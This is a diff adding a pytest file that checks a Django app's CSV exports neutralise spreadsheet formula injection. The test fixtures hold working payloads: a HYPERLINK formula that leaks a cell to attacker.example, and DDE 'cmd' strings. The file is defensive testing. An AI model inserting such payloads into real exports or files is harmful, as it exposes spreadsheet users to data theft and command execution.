@@ -1,0 +1,144 @@
+"""CSV/formula injection: no text cell of any CSV export starts with a character a spreadsheet
+evaluates (= + - @ tab CR, OWASP); it gets a leading single quote. JSON keeps the text verbatim.
+"""
+
+from __future__ import annotations
+
+import csv
+import datetime
+import io
+import re
+from pathlib import Path
+from unittest import mock
+
+import pytest
+from django_countries import countries
+from hypothesis import given
+from hypothesis import strategies as st
+
+from requests_app import exports
+from tests.factories import FigureRowFactory, PauseDecisionFactory, PublicationFactory
+
+ROOT = Path(__file__).resolve().parent.parent
+
+PAYLOADS = [
+    '=HYPERLINK("http://attacker.example/?leak="&A1,"Click")',
+    "=cmd|' /C calc'!A0",
+    "+1+1",
+    "-2+3",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+]
+
+# Every CSV export: its URL, the record builder the view calls, and its columns.
+EXPORTS = {
+    "requests.csv": ("/data/requests", "figure_record", exports.FIGURE_COLUMNS),
+    "pauses.csv": ("/data/pauses", "pause_record", exports.PAUSE_COLUMNS),
+}
+TEXT_KINDS = {"text", "list"}
+CASES = [
+    (export, column.name)
+    for export, (_, _, columns) in EXPORTS.items()
+    for column in columns
+    if column.kind in TEXT_KINDS
+]
+
+
+def csv_rows(response) -> list[dict]:
+    assert response.status_code == 200, response.content
+    body = response.content.decode("utf-8").removeprefix("\ufeff")
+    return list(csv.DictReader(io.StringIO(body, newline="")))
+
+
+@pytest.fixture
+def one_row_each(db):
+    FigureRowFactory(publication=PublicationFactory(period="2020-H2"), country="HK")
+    PauseDecisionFactory(country="HK")
+
+
+def test_every_text_column_is_covered():
+    assert len(CASES) >= 10  # 4 in requests.csv, 7 in pauses.csv at the time of writing
+    assert ("pauses.csv", "public_statement") in CASES
+    assert ("pauses.csv", "exceptions_policy") in CASES
+    assert ("requests.csv", "country_name") in CASES
+
+
+@pytest.mark.django_db
+@pytest.mark.parametrize("export,column", CASES)
+def test_formula_in_any_text_column_is_neutralised_in_csv_and_verbatim_in_json(
+    client, one_row_each, export, column
+):
+    url, builder_name, _ = EXPORTS[export]
+    builder = getattr(exports, builder_name)
+    for text in PAYLOADS:
+
+        def hostile_record(obj, text=text):
+            record = builder(obj)
+            record[column] = [text] if isinstance(record[column], list) else text
+            return record
+
+        with mock.patch.object(exports, builder_name, hostile_record):
+            (row,) = csv_rows(client.get(f"{url}.csv"))
+            (record,) = client.get(f"{url}.json").json()["results"]
+        assert row[column] == "'" + text, (column, text)
+        assert record[column] in (text, [text]), (column, text)
+
+
+@pytest.mark.django_db
+def test_pause_texts_from_the_register_are_neutralised_end_to_end(client):
+    PauseDecisionFactory(
+        country="HK",
+        public_statement='=HYPERLINK("http://attacker.example","Read the statement")',
+        exceptions_policy="@SUM(1+1)*cmd|' /C calc'!A0",
+        statement_url="-2+3",  # the database does not re-validate a URL
+    )
+    (row,) = csv_rows(client.get("/data/pauses.csv"))
+    assert row["public_statement"] == '\'=HYPERLINK("http://attacker.example","Read the statement")'
+    assert row["exceptions_policy"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
+    assert row["statement_url"] == "'-2+3"
+    (record,) = client.get("/data/pauses.json").json()["results"]
+    assert record["public_statement"].startswith("=HYPERLINK")
+    assert record["exceptions_policy"].startswith("@SUM")
+
+
+@pytest.mark.django_db
+def test_ordinary_cells_are_left_alone(client):
+    publication = PublicationFactory(
+        period="2020-H2", published_at=datetime.datetime(2021, 1, 5, tzinfo=datetime.UTC)
+    )
+    FigureRowFactory(publication=publication, country="CI", requests=10, requests_with_data_produced=3)
+    PauseDecisionFactory(
+        country="HK", public_statement="We paused requests.", exceptions_policy="Threat to life."
+    )
+    (figure,) = csv_rows(client.get("/data/requests.csv"))
+    assert figure["country_name"] == countries.name("CI")
+    assert figure["requests"] == "10" and figure["percent_with_data_produced"] == "30.0"
+    assert figure["period_start"] == "2020-07-01"
+    assert not any(value.startswith("'") for value in figure.values())
+    (pause,) = csv_rows(client.get("/data/pauses.csv"))
+    assert pause["public_statement"] == "We paused requests."
+    assert not any(value.startswith("'") for value in pause.values())
+
+
+@given(st.text(st.characters(codec="utf-8"), max_size=30))
+def test_no_cell_starts_with_a_formula_character(text):
+    cell = exports._csv_cell(text)
+    assert not cell.startswith(exports.FORMULA_TRIGGERS)
+    assert cell == text or cell == "'" + text
+    assert (cell != text) == text.startswith(exports.FORMULA_TRIGGERS)
+
+
+def test_numbers_are_written_as_numbers():
+    assert exports._csv_cell(-3) == "-3"  # not text: a spreadsheet must read it as a number
+    assert exports._csv_cell(None) == ""
+    assert exports._csv_cell(["legal_process", "emergency"]) == "legal_process;emergency"
+
+
+def test_every_csv_writer_goes_through_exports():
+    """A new CSV writer elsewhere would bypass csv_safe: write CSV with exports.csv_response."""
+    writers = []
+    for source in [*ROOT.glob("requests_app/**/*.py"), *ROOT.glob("transparency/**/*.py")]:
+        if re.search(r"csv\.(writer|DictWriter)\(", source.read_text()):
+            writers.append(source.relative_to(ROOT).as_posix())
+    assert writers == ["requests_app/exports.py"]
